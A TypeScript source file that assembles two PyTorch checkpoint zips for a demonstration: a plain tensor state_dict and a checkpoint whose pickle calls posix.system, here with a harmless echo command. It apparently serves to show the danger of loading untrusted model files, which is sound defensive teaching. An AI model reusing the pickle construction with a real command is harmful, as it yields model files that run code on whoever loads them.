/** Two PyTorch checkpoints for the demonstration, assembled byte by byte: a safe `state_dict`, and one that would run a harmless `echo`. Layout as torch.save writes it: https://docs.pytorch.org/docs/stable/notes/serialization.html. */
import { crc32 } from 'node:zlib';

type Part = string | number | Uint8Array;

function bytes(...parts: readonly Part[]): Buffer {
  return Buffer.concat(parts.map((part) => (typeof part === 'number' ? Uint8Array.of(part) : Buffer.from(part))));
}

function u16(value: number): Buffer {
  const buffer = Buffer.alloc(2);
  buffer.writeUInt16LE(value);
  return buffer;
}

function u32(value: number): Buffer {
  const buffer = Buffer.alloc(4);
  buffer.writeUInt32LE(value);
  return buffer;
}

const text = (value: string): Buffer => bytes('X', u32(Buffer.byteLength(value)), value);
const global = (module: string, name: string): Buffer => bytes('c', module, '\n', name, '\n');

/** What unpickling would run; it only writes one line into the working folder. */
export const DEMO_COMMAND = "echo 'This is a malicious model!' > malicious_output.txt";
export const DEMO_TRACE = 'malicious_output.txt';

/** `{'weight': 2 × 2 float tensor}`, which torch.load can read. */
export function safeModel(): Buffer {
  const storage = bytes(
    '(',
    text('storage'),
    global('torch', 'FloatStorage'),
    text('0'),
    text('cpu'),
    'K',
    4,
    't',
    'Q',
  );
  const shape = bytes('K', 0, 'K', 2, 'K', 2, 0x86, 'K', 2, 'K', 1, 0x86, 0x89);
  const hooks = bytes(global('collections', 'OrderedDict'), ')', 'R');
  const tensor = bytes(global('torch._utils', '_rebuild_tensor_v2'), '(', storage, shape, hooks, 't', 'R');
  return checkpoint('safe_model', bytes(0x80, 2, '}', text('weight'), tensor, 's', '.'), Buffer.alloc(16));
}

/** An object whose `__reduce__` returned `(os.system, (command,))`. */
export function maliciousModel(): Buffer {
  const pickle = bytes(0x80, 2, global('posix', 'system'), text(DEMO_COMMAND), 0x85, 'R', '.');
  return checkpoint('malicious_model', pickle, Buffer.alloc(0));
}

function checkpoint(root: string, pickle: Buffer, storage: Buffer): Buffer {
  const entries: [string, Buffer][] = [
    [`${root}/data.pkl`, pickle],
    [`${root}/byteorder`, Buffer.from('little')],
    ...(storage.length > 0 ? [[`${root}/data/0`, storage] as [string, Buffer]] : []),
    [`${root}/version`, Buffer.from('3\n')],
  ];
  return storedZip(entries);
}

/** A zip of uncompressed entries, as APPNOTE.TXT 6.3 lays it out. */
function storedZip(entries: readonly (readonly [name: string, content: Buffer])[]): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of entries) {
    const common = bytes(
      u16(20),
      u16(0),
      u16(0),
      u32(0x00210000),
      u32(crc32(content)),
      u32(content.length),
      u32(content.length),
      u16(name.length),
      u16(0),
    );
    const entry = bytes('PK\x03\x04', common, name, content);
    local.push(entry);
    central.push(bytes('PK\x01\x02', u16(20), common, u16(0), u16(0), u16(0), u32(0), u32(offset), name));
    offset += entry.length;
  }
  const directory = Buffer.concat(central);
  const end = bytes(
    'PK\x05\x06',
    u16(0),
    u16(0),
    u16(entries.length),
    u16(entries.length),
    u32(directory.length),
    u32(offset),
    u16(0),
  );
  return Buffer.concat([...local, directory, end]);
}
